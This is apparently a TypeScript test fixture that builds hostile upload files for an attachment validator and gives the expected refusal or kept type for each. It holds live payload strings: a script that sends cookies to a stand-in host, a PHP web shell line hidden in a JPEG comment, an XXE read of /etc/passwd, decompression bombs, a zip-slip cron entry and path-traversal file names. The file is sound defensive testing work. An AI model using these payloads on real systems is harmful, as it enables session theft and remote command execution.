/** Hostile files, made by code, each with the expected outcome. */
import { deflateSync } from 'node:zlib';
import type { ActiveContent, RefusalReason } from '@parley/contracts/messages/attachments';
import sharp from 'sharp';

export interface HostileFile {
  /** Attack that the file attempts. */
  about: string;
  name: string;
  bytes: Buffer;
  /** Why it is refused, or as which type it is kept. */
  becomes: { refused: RefusalReason } | { type: string; name?: string; activeContent?: ActiveContent[] };
}

const script = '<script>fetch("https://evil.example/?"+document.cookie)</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
const html = `<!doctype html><html><body>${script}</body></html>`;
const refused = (reason: RefusalReason) => ({ refused: reason });

const crcTable = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
const crc = (bytes: Buffer): number =>
  (bytes.reduce((sum, byte) => (crcTable[(sum ^ byte) & 0xff] ?? 0) ^ (sum >>> 8), 0xffffffff) ^ 0xffffffff) >>> 0;

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const whole = Buffer.alloc(body.length + 8);
  whole.writeUInt32BE(data.length, 0);
  body.copy(whole, 4);
  whole.writeUInt32BE(crc(body), body.length + 4);
  return whole;
}

const pngStart = Buffer.from('89504e470d0a1a0a', 'hex');

/** A PNG that says it is so large, with these bytes as its pixels. */
function png(width: number, height: number, pixels: Buffer, more: Buffer[] = []): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 0, 0, 0, 0], 8);
  return Buffer.concat([
    pngStart,
    chunk('IHDR', header),
    ...more,
    chunk('IDAT', deflateSync(pixels, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A ZIP of stored entries, with the names given. */
export function zip(...entries: [name: string, content: string][]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, content] of entries) {
    const [nameBytes, data] = [Buffer.from(name), Buffer.from(content)];
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc(data), 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    local.copy(central, 6, 4, 30);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBytes, data);
    centrals.push(central, nameBytes);
    offset += 30 + nameBytes.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const officeTypes = (part: string): string =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/x.xml" ContentType="${part}"/></Types>`;

const pdf = (action: string): Buffer =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<<${action}>>/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`,
  );

/** A GIF of one pixel with so many frames. */
function gif(frames: number, width = 1, height = 1): Buffer {
  const head = Buffer.from('474946383961000000008000000000 00ffffff'.replaceAll(' ', ''), 'hex');
  head.writeUInt16LE(width, 6);
  head.writeUInt16LE(height, 8);
  const frame = Buffer.from('21f9040000000000002c000000000100010000020144 0 0'.replaceAll(' ', ''), 'hex');
  return Buffer.concat([head, ...Array.from({ length: frames }, () => frame), Buffer.from(';')]);
}

/** All of them; none is longer than some megabytes. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const base = sharp({ create: { width: 64, height: 48, channels: 3, background: '#2a6' } });
  const [goodPng, goodJpeg, goodWebp, goodGif] = await Promise.all([
    base.clone().png().toBuffer(),
    base.clone().jpeg().toBuffer(),
    base.clone().webp().toBuffer(),
    base.clone().gif().toBuffer(),
  ]);
  const tracked = await base
    .clone()
    .withExif({ IFD0: { Copyright: 'home address 12', ImageDescription: script }, IFD3: { GPSLatitudeRef: 'N' } })
    .jpeg()
    .toBuffer();
  const lines = await sharp({
    create: {
      width: 2,
      height: 402,
      channels: 3,
      noise: { type: 'gaussian', mean: 128, sigma: 90 },
      background: '#000',
    },
  })
    .raw()
    .toBuffer();
  const frames = await sharp(lines, { raw: { width: 2, height: 402, channels: 3, pageHeight: 2 } })
    .gif()
    .toBuffer();
  const png16 = { type: 'image/png' };
  const jpeg = { type: 'image/jpeg' };
  const asText = (name: string) => ({ type: 'text/plain', name });

  const markup: HostileFile[] = [
    ['an SVG with a script', 'picture.svg', svg],
    ['an SVG called PNG', 'picture.png', svg],
    ['an SVG behind an XML head', 'picture.jpg', `<?xml version="1.0"?>\n${svg}`],
    ['an SVG behind blank lines', 'picture.svg', `\n\n\t ${svg}`],
    ['an SVG behind a byte order mark', 'picture.svg', `\ufeff${svg}`],
    [
      'an SVG with a foreign object',
      'a.svg',
      `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>${html}</foreignObject></svg>`,
    ],
    [
      'an SVG that names an entity of the disk',
      'a.svg',
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg}`,
    ],
    ['an SVG of a billion laughs', 'a.svg', `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>${svg}`],
    ['HTML', 'page.html', html],
    ['HTML called text', 'page.txt', html],
    ['HTML called PNG', 'page.png', html],
    ['HTML in capitals', 'page.txt', '<HTML><SCRIPT>alert(1)</SCRIPT></HTML>'],
    ['HTML behind a comment', 'page.txt', `<!-- a note -->${html}`],
    ['XHTML', 'page.xhtml', `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`],
    ['a style sheet that runs', 'a.xsl', '<xsl:stylesheet version="1.0"></xsl:stylesheet>'],
    ['MathML', 'a.mml', '<math xmlns="http://www.w3.org/1998/Math/MathML"></math>'],
    [
      'a compiled help of the web',
      'a.hta',
      '<HTA:APPLICATION id="x"><script>new ActiveXObject("WScript.Shell")</script>',
    ],
  ].map(([about = '', name = '', text = '']) => ({ about, name, bytes: Buffer.from(text), becomes: refused('type') }));

  const programs: HostileFile[] = (
    [
      ['a Windows program', 'setup.exe', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90)])],
      ['a Windows program called PNG', 'holiday.png', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90)])],
      [
        'a Linux program called PDF',
        'bill.pdf',
        Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(200)]),
      ],
      ['a macOS program', 'app', Buffer.concat([Buffer.from('cffaedfe07000001', 'hex'), Buffer.alloc(100)])],
      ['a Java class', 'A.class', Buffer.concat([Buffer.from('cafebabe00000034', 'hex'), Buffer.alloc(60)])],
      ['WebAssembly', 'a.wasm', Buffer.from('0061736d01000000', 'hex')],
      [
        'a shortcut of Windows',
        'open me.lnk',
        Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(60)]),
      ],
      [
        'an old Office file, which may hold macros',
        'letter.doc',
        Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
      ],
      ['Flash', 'a.swf', Buffer.from('465753060000000000', 'hex')],
      ['a RAR archive', 'a.rar', Buffer.from('526172211a0700cf907300000d00000000000000', 'hex')],
      ['a 7z archive', 'a.7z', Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), Buffer.alloc(40)])],
      ['gzip, perhaps a bomb', 'a.csv', Buffer.concat([Buffer.from('1f8b0800000000000003', 'hex'), Buffer.alloc(60)])],
      [
        'a document with macros',
        'bill.docx',
        zip(
          ['[Content_Types].xml', officeTypes('application/vnd.ms-word.document.macroEnabled.main+xml')],
          ['word/vbaProject.bin', 'x'],
        ),
      ],
      ['an Android package called ZIP', 'a.zip', zip(['AndroidManifest.xml', 'x'], ['classes.dex', 'x'])],
      ['a Java archive', 'a.zip', zip(['META-INF/MANIFEST.MF', 'Main-Class: Evil'])],
      ['noise', 'photo.jpg', Buffer.from('00ff13f7a0b1c2d3e4f5061728394a5b', 'hex')],
      ['text with a NUL', 'a.txt', Buffer.from('a\0b')],
      ['text with terminal commands', 'a.txt', Buffer.from('\u001b]0;title\u0007\u001b[2J')],
      ['UTF-16 with markup in it', 'a.txt', Buffer.from(`\ufeff${html}`, 'utf16le')],
    ] as const
  ).map(([about, name, bytes]) => ({ about, name, bytes, becomes: refused('type') }));

  const bombs: HostileFile[] = [
    {
      about: 'a PNG that says it has 10⁹ pixels',
      name: 'a.png',
      bytes: png(32_000, 32_000, Buffer.alloc(1000)),
      becomes: refused('too_large'),
    },
    {
      about: 'a PNG with a billion pixels of one line',
      name: 'a.png',
      bytes: png(1_000_000_000, 1, Buffer.alloc(1000)),
      becomes: refused('unreadable'),
    },
    {
      about: 'a PNG of the largest size there is',
      name: 'a.png',
      bytes: png(0x7fffffff, 0x7fffffff, Buffer.alloc(10)),
      becomes: refused('unreadable'),
    },
    { about: 'a PNG of no pixels', name: 'a.png', bytes: png(0, 0, Buffer.alloc(1)), becomes: refused('unreadable') },
    {
      about: 'a PNG bomb of 60 megapixels in a few kilobytes',
      name: 'a.png',
      bytes: png(10_000, 6_000, Buffer.alloc(10_001 * 6_000)),
      becomes: refused('too_large'),
    },
    { about: 'a GIF of 201 frames', name: 'a.gif', bytes: frames, becomes: refused('too_large') },
    {
      about: 'a GIF with a canvas of 4 gigapixels',
      name: 'a.gif',
      bytes: gif(1, 65_535, 65_535),
      becomes: refused('unreadable'),
    },
    {
      about: 'a PNG with a bomb in its text',
      name: 'a.png',
      bytes: png(1, 1, Buffer.alloc(2), [
        chunk('zTXt', Buffer.concat([Buffer.from('a\0\0'), deflateSync(Buffer.alloc(8_000_000))])),
      ]),
      becomes: png16,
    },
    {
      about: 'a PNG with a bomb for a colour profile',
      name: 'a.png',
      bytes: png(1, 1, Buffer.alloc(2), [
        chunk('iCCP', Buffer.concat([Buffer.from('a\0\0'), deflateSync(Buffer.alloc(8_000_000))])),
      ]),
      becomes: png16,
    },
    {
      about: 'a ZIP that repeats itself',
      name: 'a.zip',
      bytes: zip(...Array.from({ length: 2_000 }, (_, n): [string, string] => [`${n}.zip`, 'PK'])),
      becomes: { type: 'application/zip' },
    },
  ];

  const broken: HostileFile[] = [
    {
      about: 'half a PNG',
      name: 'a.png',
      bytes: goodPng.subarray(0, goodPng.length - 40),
      becomes: refused('unreadable'),
    },
    { about: 'the head of a PNG and nothing more', name: 'a.png', bytes: pngStart, becomes: refused('type') },
    {
      about: 'half a JPEG',
      name: 'a.jpg',
      bytes: goodJpeg.subarray(0, Math.floor(goodJpeg.length / 2)),
      becomes: refused('unreadable'),
    },
    {
      about: 'the head of a JPEG and HTML',
      name: 'a.jpg',
      bytes: Buffer.concat([Buffer.from('ffd8ffe000104a464946', 'hex'), Buffer.from(html)]),
      becomes: refused('unreadable'),
    },
    { about: 'half a WebP', name: 'a.webp', bytes: goodWebp.subarray(0, 20), becomes: refused('unreadable') },
    {
      about: 'the head of a GIF and a script',
      name: 'a.gif',
      bytes: Buffer.from(`GIF89a/*${' '.repeat(20)}*/=1;alert(1)`),
      becomes: refused('unreadable'),
    },
    {
      about: 'a PNG with noise for pixels',
      name: 'a.png',
      bytes: Buffer.concat([
        pngStart,
        png(8, 8, Buffer.alloc(1)).subarray(8, 33),
        chunk('IDAT', Buffer.from('00112233445566', 'hex')),
        chunk('IEND', Buffer.alloc(0)),
      ]),
      becomes: refused('unreadable'),
    },
  ];

  const polyglots: HostileFile[] = [
    {
      about: 'a PNG with HTML behind it',
      name: 'a.png',
      bytes: Buffer.concat([goodPng, Buffer.from(html)]),
      becomes: png16,
    },
    {
      about: 'a PNG with a ZIP behind it',
      name: 'a.png',
      bytes: Buffer.concat([goodPng, zip(['evil.js', script])]),
      becomes: png16,
    },
    {
      about: 'a PNG with a script in its text',
      name: 'a.png',
      bytes: png(1, 1, Buffer.alloc(2), [chunk('tEXt', Buffer.from(`Comment\0${script}`))]),
      becomes: png16,
    },
    {
      about: 'a JPEG with a program behind it',
      name: 'a.jpg',
      bytes: Buffer.concat([goodJpeg, Buffer.from('MZ'), Buffer.from(script)]),
      becomes: jpeg,
    },
    {
      about: 'a JPEG with PHP in a comment',
      name: 'a.php.jpg',
      bytes: Buffer.concat([
        goodJpeg.subarray(0, 2),
        Buffer.from('fffe0020', 'hex'),
        Buffer.from('<?php system($_GET["c"]); ?>  ').subarray(0, 30),
        goodJpeg.subarray(2),
      ]),
      becomes: jpeg,
    },
    { about: 'a JPEG that says where it was taken', name: 'home.jpg', bytes: tracked, becomes: jpeg },
    {
      about: 'a GIF with a script behind it',
      name: 'a.gif',
      bytes: Buffer.concat([goodGif, Buffer.from(script)]),
      becomes: { type: 'image/gif' },
    },
    {
      about: 'a WebP with HTML behind it',
      name: 'a.webp',
      bytes: Buffer.concat([goodWebp, Buffer.from(html)]),
      becomes: { type: 'image/webp' },
    },
    {
      about: 'a PDF that runs a script',
      name: 'a.pdf',
      bytes: pdf('/S/JavaScript/JS(app.alert\\(1\\))'),
      becomes: { type: 'application/pdf', activeContent: ['script'] },
    },
    {
      about: 'a PDF that starts a program',
      name: 'a.pdf',
      bytes: pdf('/S/Launch/F(cmd.exe)'),
      becomes: { type: 'application/pdf', activeContent: ['program'] },
    },
    {
      about: 'a PDF with HTML behind it',
      name: 'a.html',
      bytes: Buffer.concat([pdf('/S/URI/URI(javascript:alert)'), Buffer.from(html)]),
      becomes: { type: 'application/pdf', name: 'a.html.pdf' },
    },
    {
      about: 'a ZIP with paths out of its folder',
      name: 'a.zip',
      bytes: zip(['../../../etc/cron.d/evil', '* * * * * root sh']),
      becomes: refused('unsafe'),
    },
  ];

  const names: HostileFile[] = (
    [
      ['a path out of the folder', '../../../../etc/passwd', 'passwd.txt'],
      ['a path of Windows', 'C:\\Windows\\System32\\drivers\\etc\\hosts', 'hosts.txt'],
      ['a name read from right to left', 'invoice\u202egpj.txt', 'invoicegpj.txt'],
      ['marks of direction', '\u2066a\u2069\u200f.txt', 'a.txt'],
      ['line breaks, which would be headers', 'a\r\nContent-Type: text/html\r\n\r\n.txt', 'html .txt'],
      ['control characters', 'a\u0007\u0008b\u007f.txt', 'a b .txt'],
      ['a device of Windows', 'CON.txt', '_CON.txt'],
      ['a hidden file', '.htaccess', 'htaccess.txt'],
      ['nothing but dots', '...', 'file.txt'],
      ['quotes and brackets', '"><img src=x onerror=alert(1)>.txt', '___img src=x onerror=alert(1)_.txt'],
      ['a name longer than any', `${'n'.repeat(900)}.txt`, `${'n'.repeat(115)}….txt`],
    ] as const
  ).map(([about, name, safe]) => ({ about, name, bytes: Buffer.from('harmless'), becomes: asText(safe) }));

  return [...markup, ...programs, ...bombs, ...broken, ...polyglots, ...names];
}
